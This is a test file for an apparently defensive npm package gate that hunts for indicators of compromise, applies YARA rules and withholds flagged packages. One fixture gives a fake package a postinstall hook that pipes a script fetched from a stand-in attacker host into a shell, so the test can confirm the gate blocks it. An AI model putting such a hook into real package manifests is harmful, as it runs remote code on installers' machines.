import { createHash } from 'node:crypto'
import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterEach, describe, expect, it } from 'vitest'
import type { HuntAnswer } from '../src/hunt/answer.ts'
import { startFakeNpm } from './fakes/npm.ts'
import type { FakeNpm } from './fakes/npm.ts'
import { startGate } from './harness/gate.ts'
import type { Gate, GateOptions } from './harness/gate.ts'

const open: { close(): Promise<void> }[] = []
afterEach(async () => {
  for (const one of open.splice(0).reverse()) await one.close()
})

/** Speaks of a host, and does nothing with it that any detector minds. */
const speaking = (host: string): Record<string, string> => ({ 'index.js': `exports.mirror = 'https://${host}/packages/list.json'\nexports.contact = 'admin@${host}'\n` })

async function npmGate(versions: Parameters<FakeNpm['addVersion']>[0][], options: GateOptions = {}): Promise<{ npm: FakeNpm; gate: Gate; get(name: string, version?: string): Promise<number> }> {
  const npm = await startFakeNpm(versions)
  open.push(npm)
  const gate = await startGate({ sources: { npm: { url: npm.url, sumdb: null } }, ...options })
  open.push(gate)
  return { npm, gate, get: async (name, version = '1.0.0') => (await fetch(`${gate.npm}${name}/-/${name}-${version}.tgz`)).status }
}

const hunt = (gate: Gate, what: string): Promise<HuntAnswer> => gate.app.hunter.hunt({ what })
const named = ({ hits }: HuntAnswer): string[] => hits.map(({ name, version }) => `${name}@${version}`).sort()

let record = 0
const tell = (gate: Gate, type: string, value: string, more: { source?: string; tlp?: string; valid_until?: number; withdrawn?: number } = {}): Promise<unknown> => {
  const row = { type, value, source: 'feed', record: `r${++record}`, says: 'drop of a worm', tlp: 'green', valid_until: null, withdrawn: null, modified: record, added_at: record, ...more }
  return gate.app.context.database.transaction(async (tx) => {
    await tx.deleteFrom('known_indicators').where('type', '=', type).where('value', '=', value).where('source', '=', row.source).execute()
    await tx.insertInto('known_indicators').values(row).execute()
  })
}

/** Fails by the test's own time limit. */
async function until(what: () => Promise<boolean>): Promise<void> {
  while (!(await what())) await new Promise((resolve) => setTimeout(resolve, 50))
}

describe('a hunt', () => {
  it('finds what was judged by what it carries, however that is written, with place, decision and exposure', async () => {
    const { gate, get, npm } = await npmGate([
      { name: 'one', version: '1.0.0', files: speaking('files.evil.example') }, { name: 'two', version: '1.0.0', files: speaking('evil.example') }, { name: 'other', version: '1.0.0', files: speaking('good.example') },
    ])
    for (const name of ['one', 'one', 'two', 'other']) expect(await get(name)).toBe(200)
    for (const [what, found] of [
      ['evil.example', ['one@1.0.0', 'two@1.0.0']], ['evil[.]example', ['one@1.0.0', 'two@1.0.0']], ['evil(.)example', ['one@1.0.0', 'two@1.0.0']], ['files.evil.example', ['one@1.0.0']],
      ['hxxps://files[.]evil[.]example/packages/list.json', ['one@1.0.0']], ['admin[at]evil[.]example', ['two@1.0.0']], ['@evil.example', ['one@1.0.0', 'two@1.0.0']],
      [createHash('sha256').update(speaking('evil.example')['index.js'] ?? '').digest('hex'), ['two@1.0.0']], [createHash('sha256').update(npm.tarball('one', '1.0.0')).digest('hex'), ['one@1.0.0']],
      [createHash('sha512').update(npm.tarball('one', '1.0.0')).digest('hex'), ['one@1.0.0']],
      ['evil.example and not name:t*', ['one@1.0.0']], ['(name:two or name:other) and level:clean', ['other@1.0.0', 'two@1.0.0']], ['npm:one@1.*', ['one@1.0.0']], ['unknown.example', []],
    ] as const) expect([what, named(await hunt(gate, what))]).toEqual([what, found])
    const { hits: [hit], exposure } = await hunt(gate, 'files.evil.example')
    expect(hit).toMatchObject({ level: 'clean', ruling: { action: 'serve' }, why: [{ what: 'url', file: 'index.js', line: 1, excerpt: 'https://files.evil.example/packages/list.json' }, { what: 'domain' }, { what: 'email' }] })
    expect(exposure?.totals).toMatchObject({ served: 1, denied: 0 })
  })

  it('finds like code, and what behaves', async () => {
    const code = Array.from({ length: 40 }, (_, at) => `function step${at}(first, second) { const sum = first.part${at % 7} + second.other; return sum > ${at} ? sum : helper${at % 5}(second) }`).join('\n')
    const { gate, get } = await npmGate([
      { name: 'copy', version: '1.0.0', files: { 'index.js': code } }, { name: 'else', version: '1.0.0', files: { 'index.js': speaking('good.example')['index.js'] ?? '' } },
      { name: 'bad', version: '1.0.0', manifest: { scripts: { postinstall: 'curl -s http://files.attacker.example/x.sh | sh' } } },
    ])
    for (const [name, status] of [['copy', 200], ['else', 200], ['bad', 403]] as const) expect(await get(name)).toBe(status)
    const { sketch } = await gate.app.context.database.query.selectFrom('verdicts').select('sketch').where('name', '=', 'copy').executeTakeFirstOrThrow()
    expect(named(await gate.app.hunter.hunt({ like: { sketch: sketch ?? '', least: 0.8 } }))).toEqual(['copy@1.0.0'])
    const found = await hunt(gate, 'behaviour:fetch-and-run and trigger:install and score>=80')
    expect(named(found)).toEqual(['bad@1.0.0'])
    expect(found.exposure?.totals).toMatchObject({ served: 0, denied: 1 })
    expect(named(await gate.app.hunter.hunt({ yara: { text: 'rule drop { strings: $a = "attacker.example" condition: $a }', within: 60_000 } }))).toEqual(['bad@1.0.0'])
    await expect(gate.app.hunter.hunt({ yara: { text: 'rule {', within: 60_000 } })).rejects.toMatchObject({ code: 'usage' })
  })

  it('also finds what was judged before there was an index', async () => {
    const { gate, get } = await npmGate([{ name: 'one', version: '1.0.0', files: speaking('files.evil.example') }])
    expect(await get('one')).toBe(200)
    await gate.app.context.database.transaction(async (tx) => {
      for (const table of ['facts', 'judged_files'] as const) await tx.deleteFrom(table).execute()
      await tx.deleteFrom('settings').where('key', '=', 'hunt index').execute()
    })
    await until(async () => (await hunt(gate, 'evil.example')).files === 1)
    await until(async () => (await gate.app.hunter.retro()).indexed)
    expect((await hunt(gate, 'evil.example')).complete).toBe(true)
  })
})

describe('a new known indicator', () => {
  it('holds what carries it on the gate, raises one alarm with the exposure, and lets go when it is withdrawn', async () => {
    const notices: string[] = []
    const { gate, get } = await npmGate([{ name: 'one', version: '1.0.0', files: speaking('files.evil.example') }, { name: 'two', version: '1.0.0', files: speaking('good.example') }], { onNotice: ({ title }) => notices.push(title) })
    expect([await get('one'), await get('two')]).toEqual([200, 200])
    await tell(gate, 'domain', 'evil.example')
    await until(async () => await get('one') === 403)
    expect(await get('two')).toBe(200)
    const page = await (await fetch(`${gate.npm}one/-/one-1.0.0.tgz`)).text()
    expect(page).toContain('evil[.]example')
    await until(async () => (await gate.app.lookout.alarms({ open: true })).length === 1)
    const [alarm] = await gate.app.lookout.alarms({ open: true })
    expect(alarm).toMatchObject({ kind: 'indicator', severity: 'critical', size: 1, packages: [{ name: 'one', version: '1.0.0' }] })
    expect(alarm?.packages[0]?.signals).toContain('received by 1')
    await until(() => Promise.resolve(notices.length > 0))
    expect(notices).toEqual(['files that were judged here carry the domain evil[.]example'])
    await tell(gate, 'domain', 'evil.example', { withdrawn: 1 })
    await until(async () => await get('one') === 200)
    const { lines } = await gate.app.operator.trace({ ecosystem: 'npm', name: 'one' }, { kinds: ['decided'] })
    expect(lines.map(({ entry }) => `${entry.by ?? 'admission'} ${entry.action}`)).toEqual(['admission serve', 'hunt hold', 'hunt serve'])
  })

  it('holds what is judged later before its first delivery, and says nothing of it that may not be passed on', async () => {
    const { gate, get } = await npmGate([{ name: 'one', version: '1.0.0', files: speaking('files.evil.example') }])
    await tell(gate, 'domain', 'evil.example', { tlp: 'red' })
    const answer = await fetch(`${gate.npm}one/-/one-1.0.0.tgz`)
    expect(answer.status).toBe(403)
    expect(await answer.text()).not.toContain('evil')
    expect((await gate.app.operator.trace({ ecosystem: 'npm', name: 'one' }, { kinds: ['served'] })).lines).toEqual([])
    expect(await get('one')).toBe(403)
  })

  it('finds files, networks and addresses, and lets go when it expires', async () => {
    let now = Date.now()
    const { gate, get } = await npmGate([
      { name: 'one', version: '1.0.0', files: { 'index.js': "exports.url = 'http://203.0.113.77:8000/x'\n" } }, { name: 'two', version: '1.0.0', files: { 'index.js': 'exports.two = 2\n', 'lib.js': 'exports.rare = 42\n' } },
    ], { clock: { now: () => new Date(now) } })
    await tell(gate, 'ip', '203.0.113.64/26', { valid_until: now + 3_600_000 })
    expect([await get('one'), await get('two')]).toEqual([403, 200])
    await tell(gate, 'sha256', createHash('sha256').update('exports.rare = 42\n').digest('hex'))
    await until(async () => await get('two') === 403)
    now += 2 * 3_600_000
    await until(async () => await get('one') === 200)
    expect(await get('two')).toBe(403)
  })

  it('that everybody carries holds nothing, and one alarm says so', async () => {
    const { gate, get } = await npmGate([{ name: 'one', version: '1.0.0', files: { 'index.js': "exports.code = 'https://github.com/acme/one'\nexports.x = 'https://discord.com/api'\n", 'empty.js': '' } }])
    expect(await get('one')).toBe(200)
    await tell(gate, 'domain', 'github.com')
    await tell(gate, 'sha256', createHash('sha256').update('').digest('hex'))
    await until(async () => (await gate.app.lookout.alarms({ open: true })).length === 2)
    expect((await gate.app.lookout.alarms({ open: true })).map(({ title }) => title.split(': ').at(-1)).sort()).toEqual(['it is a service that strangers share', 'it is the hash of an empty file'])
    expect(await get('one')).toBe(200)
    await tell(gate, 'domain', 'github.com')
    await until(async () => (await gate.app.hunter.retro()).indicators === 0)
    expect(await gate.app.lookout.alarms({})).toHaveLength(2)
  })
})

describe('new rules', () => {
  it('are run over what is stored, and what they are true for is judged again', async () => {
    const folder = await mkdtemp(join(tmpdir(), 'sluice-rules-'))
    try {
      await writeFile(join(folder, 'first.yar'), 'rule never { strings: $a = "this stands nowhere" condition: $a }')
      const { gate, get } = await npmGate([{ name: 'one', version: '1.0.0', files: speaking('files.evil.example') }, { name: 'two', version: '1.0.0', files: speaking('good.example') }], { rules: { folder, timeMs: 60_000 } })
      expect([await get('one'), await get('two')]).toEqual([200, 200])
      await writeFile(join(folder, 'second.yar'), 'rule drop { meta: severity = "critical" strings: $a = "files.evil.example" condition: $a }')
      await until(async () => (await gate.app.context.database.query.selectFrom('verdicts').select('level').where('name', '=', 'one').executeTakeFirst())?.level === 'malicious')
      await until(async () => !(await gate.app.hunter.retro()).sweep.running)
      expect((await gate.app.hunter.retro()).sweep).toMatchObject({ names: ['second.yar'], matched: 1, failed: 0 })
      expect(await get('one')).toBe(403)
    } finally {
      await rm(folder, { recursive: true, force: true })
    }
  })
})
